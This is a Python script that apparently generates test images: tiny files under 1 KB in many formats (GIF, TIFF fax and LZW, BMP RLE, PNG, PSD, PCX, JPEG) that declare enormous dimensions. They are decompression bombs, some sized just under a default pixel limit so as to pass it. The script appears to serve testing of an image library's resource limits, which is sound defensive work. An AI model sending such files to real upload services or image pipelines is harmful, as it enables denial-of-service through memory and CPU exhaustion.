#!/usr/bin/python3
"""Writes picture files of at most 1 KB that declare the largest picture their format allows.

Each comes twice: NAME.max declares a picture the size of the working-memory bound (or the
format's own limit), NAME.under one just within the default pixel limit (13377 x 13377).
Usage: make_bombs.py [DIR]   (default: a new temporary directory, printed)
"""

import io
import os
import struct
import sys
import tempfile
import zlib

UNDER = 13377  # 13377 * 13377 = 178,944,129 pixels, within the default limit of 178,956,970
BUDGET = 1024


def multibyte(v):
    groups = [v & 0x7F]
    v >>= 7
    while v:
        groups.append(0x80 | (v & 0x7F))
        v >>= 7
    return bytes(reversed(groups))


def wbmp(w, h):
    return b"\0\0" + multibyte(w) + multibyte(h)


def pcx(w, h):
    head = struct.pack("<BBBBHHHHHH", 0x0A, 5, 1, 1, 0, 0, w - 1, h - 1, 72, 72) + bytes(48)
    head += struct.pack("<BBHH", 0, 1, (w + 7) // 8, 1) + bytes(58)
    return head + b"\xff\x00" * ((BUDGET - len(head)) // 2)  # runs of 63 black bytes


def psd(w, h, rle):
    head = b"8BPS" + struct.pack(">H6xHIIHH", 1, 1, h, w, 1, 0) + struct.pack(">III", 0, 0, 0)
    head += struct.pack(">H", 1 if rle else 0)
    body = struct.pack(">H", 2) * ((BUDGET - len(head)) // 2) if rle else b""
    return head + body  # the row table alone would need 2 bytes a row


def lzw_codes(first_width, clear, first_free, early, budget_bits):
    """Codes for a run of zeros, each one byte longer than the last: clear, 0, free, free + 1..."""
    codes, width, nxt, used = [(clear, first_width), (0, first_width)], first_width, first_free, 2 * first_width
    while nxt < 4000 and used + width + 12 <= budget_bits:
        codes.append((nxt, width))
        used += width
        nxt += 1
        if nxt == (1 << width) - (1 if early else 0) and width < 12:
            width += 1
    codes.append((clear + 1, width))
    return codes


def pack_msb(codes):
    acc, bits, out = 0, 0, bytearray()
    for code, width in codes:
        acc, bits = (acc << width) | code, bits + width
        while bits >= 8:
            out.append((acc >> (bits - 8)) & 0xFF)
            bits -= 8
    if bits:
        out.append((acc << (8 - bits)) & 0xFF)
    return bytes(out)


def pack_lsb(codes):
    acc, bits, out = 0, 0, bytearray()
    for code, width in codes:
        acc |= code << bits
        bits += width
        while bits >= 8:
            out.append(acc & 0xFF)
            acc >>= 8
            bits -= 8
    if bits:
        out.append(acc)
    return bytes(out)


def gif(sw, sh, fw, fh, data):
    out = b"GIF89a" + struct.pack("<HHBBB", sw, sh, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    out += b"\x2c" + struct.pack("<HHHHB", 0, 0, fw, fh, 0) + b"\x02"
    for i in range(0, len(data), 255):
        out += bytes([len(data[i : i + 255])]) + data[i : i + 255]
    return out + b"\0\x3b"


def gif_frame(w, h):
    return gif(w, h, w, h, pack_lsb(lzw_codes(3, 4, 6, False, (BUDGET - 60) * 8)))


def gif_screen(w, h):
    return gif(w, h, 1, 1, pack_lsb([(4, 3), (0, 3), (5, 3)]))


def tiff(w, h, strips, compression=1, bps=8, photometric=1, extra=()):
    """A little-endian TIFF: header, strip data, strip tables, then the IFD."""
    data = b"".join(strips)
    offsets, pos = [], 8
    for s in strips:
        offsets.append(pos)
        pos += len(s)
    tables = struct.pack("<%dI" % len(strips), *offsets) + struct.pack("<%dI" % len(strips), *map(len, strips))
    at = 8 + len(data)
    one = len(strips) == 1
    tags = [
        (256, 4, 1, w),
        (257, 4, 1, h),
        (258, 3, 1, bps),
        (259, 3, 1, compression),
        (262, 3, 1, photometric),
        (273, 4, len(strips), offsets[0] if one else at),
        (278, 4, 1, -(-h // len(strips))),
        (279, 4, len(strips), len(strips[0]) if one else at + 4 * len(strips)),
    ] + list(extra)
    tags.sort()
    ifd = at + (0 if one else len(tables))
    out = b"II*\0" + struct.pack("<I", ifd) + data + (b"" if one else tables)
    out += struct.pack("<H", len(tags))
    for tag, kind, count, value in tags:
        out += struct.pack("<HHI", tag, kind, count) + struct.pack("<H2x" if kind == 3 else "<I", value)
    return out + b"\0\0\0\0"


def halves(b):
    return [b[: len(b) // 2], b[len(b) // 2 :]]


SPARE = BUDGET - 200  # room for strip data beside the header and IFD


def tif_lzw(w, h):
    return tiff(w, h, [pack_msb(lzw_codes(9, 256, 258, True, SPARE * 8))], compression=5)


def tif_g3(w, h):
    # An EOL, then white make-up codes of 2560 until the data ends.
    return tiff(w, h, [b"\x00\x10" + b"\x01\xf0\x1f" * (SPARE // 3)], compression=3, bps=1, photometric=0)


def bits(text):
    text += "0" * (-len(text) % 8)
    return bytes(int(text[i : i + 8], 2) for i in range(0, len(text), 8))


def tif_g3_2d(w, h):
    # An EOL, tag bit 0 and a one-bit V0 code copy the row above.
    strip = bits("00000000000101" * (SPARE * 4 // 14))
    return tiff(w, h, [strip, strip], compression=3, bps=1, photometric=0, extra=[(292, 4, 1, 1)])


def tif_g4(w, h):
    # Each 1 bit is a V0 code that copies a whole row; two strips keep it from passing through.
    return tiff(w, h, halves(b"\xff" * SPARE), compression=4, bps=1, photometric=0)


def bmp(w, h, bits, compression, body):
    colours = 2 if bits <= 8 else 0
    palette = bytes(4 * colours)
    off = 14 + 40 + len(palette)
    info = struct.pack("<IiiHHIIiiII", 40, w, h, 1, bits, compression, len(body), 2835, 2835, colours, 0)
    return b"BM" + struct.pack("<IHHI", off + len(body), 0, 0, off) + info + palette + body


def runs():
    return b"\xff\x01" * ((BUDGET - 70) // 2) + b"\x00\x01"  # 255 pixels from every two bytes


def png(w, h):
    def chunk(kind, body):
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    idat = zlib.compress(bytes(1 << 22), 9)[: BUDGET - 100]
    ihdr = struct.pack(">IIBBBBB", w, h, 16, 6, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def jpeg(w, h):
    from PIL import Image

    buf = io.BytesIO()
    Image.new("L", (16, 16), 128).save(buf, "JPEG", quality=20, optimize=True)
    data = bytearray(buf.getvalue())
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", h, w)
    return bytes(data)


# name: (extension, maker of a w x h file, the largest w and h that fit the bounds)
BOMBS = {
    "wbmp": ("wbmp", wbmp, (92672, 92672)),
    "pcx_rle": ("pcx", pcx, (65535, 65535)),
    "psd_raw": ("psd", lambda w, h: psd(w, h, False), (30000, 30000)),
    "psd_rle": ("psd", lambda w, h: psd(w, h, True), (30000, 30000)),
    "gif_lzw": ("gif", gif_frame, (65535, 65535)),
    "gif_screen": ("gif", gif_screen, (65535, 65535)),
    "tif_raw": ("tif", lambda w, h: tiff(w, h, [b""], bps=1, photometric=0), (92672, 92672)),
    "tif_lzw": ("tif", tif_lzw, (32768, 32768)),
    "tif_packbits": ("tif", lambda w, h: tiff(w, h, [b"\x81\x00" * (SPARE // 2)], compression=32773), (32768, 32768)),
    "tif_g3": ("tif", tif_g3, (92672, 92672)),
    "tif_g3_2d": ("tif", tif_g3_2d, (92672, 92672)),
    "tif_g4": ("tif", tif_g4, (92672, 92672)),
    "bmp_raw": ("bmp", lambda w, h: bmp(w, h, 24, 0, b""), (18918, 18918)),
    "bmp_rle8": ("bmp", lambda w, h: bmp(w, h, 8, 1, runs()), (32768, 32768)),
    "bmp_rle4": ("bmp", lambda w, h: bmp(w, h, 4, 2, runs()), (46336, 46336)),
    "png": ("png", png, (18918, 18918)),
    "jpeg": ("jpg", jpeg, (32768, 32768)),
}

# Fax pictures as wide as the bound allows at the rows their bits can copy, which they can fill.
ROWS = SPARE * 4 // 14 * 2  # 14 bits a row for T.4 two-dimensional data
WIDE = {
    "tif_g3_2d_wide": (tif_g3_2d, ROWS),
    "tif_g4_wide": (tif_g4, SPARE * 8),
}


def main():
    out = sys.argv[1] if len(sys.argv) > 1 else tempfile.mkdtemp(prefix="bombs")
    os.makedirs(out, exist_ok=True)
    files = {}
    for name, (ext, make, (w, h)) in BOMBS.items():
        files["%s.max.%s" % (name, ext)] = make(w, h)
        files["%s.under.%s" % (name, ext)] = make(UNDER, UNDER)
    for name, (make, rows) in WIDE.items():
        files["%s.max.tif" % name] = make(((1 << 30) // rows) // 4 * 32 - 32, rows)
        files["%s.under.tif" % name] = make(178956970 // rows, rows)
    for name, data in files.items():
        assert len(data) <= BUDGET, (name, len(data))
        with open(os.path.join(out, name), "wb") as f:
            f.write(data)
    print(out)


if __name__ == "__main__":
    main()
